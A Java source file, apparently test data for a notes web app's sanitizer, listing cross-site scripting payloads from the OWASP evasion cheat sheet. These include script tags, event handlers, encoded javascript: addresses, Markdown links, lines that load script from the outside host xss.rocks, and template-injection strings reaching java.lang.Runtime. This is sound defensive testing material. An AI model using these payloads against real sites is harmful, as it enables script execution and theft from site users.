package io.talknotes.web;

import java.util.List;

/**
 * Attempts to make a page run script, from the families of the OWASP XSS filter evasion
 * cheat sheet: script tags, event handlers, script and data addresses with encodings and
 * whitespace tricks, SVG and MathML, malformed tags, attribute breaking, CSS, refresh and
 * base elements, Markdown links, images, autolinks and references, HTML entities.
 */
final class XssVectors {

	static final List<String> ALL = List.of(
			// Script tags
			"<script>alert(1)</script>", "<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>",
			"<scr<script>ipt>alert(1)</scr</script>ipt>", "<script/xss src=\"http://xss.rocks/xss.js\"></script>",
			"<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>", "<SCRIPT SRC=//xss.rocks/.j>",
			"</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "\"><script>alert(1)</script>",
			"'><script>alert(1)</script>",
			// Event handlers
			"<img src=x onerror=alert(1)>", "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
			"<body onload=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
			"<div onmouseover=\"alert(1)\">hover</div>", "<input autofocus onfocus=alert(1)>",
			"<details open ontoggle=alert(1)>", "<video><source onerror=\"alert(1)\">",
			"<xss id=x tabindex=1 onfocusin=alert(1)></xss>", "<a href=\"#\" onclick=\"alert(1)\">x</a>",
			// Attribute breaking
			"\" onmouseover=\"alert(1)", "' onfocus='alert(1)' autofocus='", "\" autofocus onfocus=alert(1) x=\"",
			// Script, VBScript and data addresses, with encodings and whitespace
			"<a href=\"javascript:alert(1)\">x</a>", "<IMG SRC=\"javascript:alert('XSS');\">",
			"<IMG SRC=JaVaScRiPt:alert('XSS')>",
			"<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
			"<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
			"<IMG SRC=\"jav\tascript:alert('XSS');\">", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
			"<IMG SRC=\" &#14;  javascript:alert('XSS');\">", "<a href=\"vbscript:msgbox(1)\">x</a>",
			"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
			"<a href=\"javas&#99;ript:alert(1)\">x</a>", "<iframe src=\"javascript:alert(1)\"></iframe>",
			"<form action=\"javascript:alert(1)\"><button>x</button></form>",
			"<button formaction=\"javascript:alert(1)\">x</button>", "<object data=\"javascript:alert(1)\"></object>",
			"<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
			"<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
			// SVG and MathML
			"<svg><script>alert(1)</script></svg>",
			"<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
			"<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
			"<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
			"<math href=\"javascript:alert(1)\">CLICKME</math>",
			"<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
			// Malformed tags and comments
			"<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\"\\>", "<img src=x onerror=alert(1)//",
			"<iframe src=http://xss.rocks/scriptlet.html <", "<<img src=x onerror=alert(1)//<",
			"<!--<img src=\"--><img src=x onerror=alert(1)//\">",
			// CSS
			"<div style=\"background-image:url(javascript:alert(1))\">x</div>",
			"<div style=\"width: expression(alert('XSS'));\">x</div>",
			"<STYLE>@import'http://xss.rocks/xss.css';</STYLE>",
			"<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
			"<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
			// Refresh and base
			"<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
			"<BASE HREF=\"javascript:alert('XSS');//\">",
			"<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">",
			// Markdown links, images, autolinks and references
			"[click](javascript:alert(1))", "[click](JAVASCRIPT:alert(1))", "[click](  javascript:alert(1)  )",
			"![img](javascript:alert(1))", "![img](x\" onerror=\"alert(1))", "<javascript:alert(1)>",
			"[ref]\n\n[ref]: javascript:alert(1)", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
			"[x](vbscript:msgbox(1))", "[x](&#106;avascript:alert(1))", "[x](javascript&#58;alert(1))",
			"[a](https://example.com \"t\\\" onmouseover=\\\"alert(1)\")", "`<script>alert(1)</script>`",
			"<https://example.com/\"onmouseover=\"alert(1)>", "![x](data:image/svg+xml,<svg onload=alert(1)>)",
			// Entities and other encodings
			"&lt;script&gt;alert(1)&lt;/script&gt;", "&#60;script&#62;alert(1)&#60;/script&#62;",
			"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "%3Cscript%3Ealert(1)%3C/script%3E",
			"[[${T(java.lang.Runtime).getRuntime()}]]", "{{constructor.constructor('alert(1)')()}}");

	private XssVectors() {
	}

}
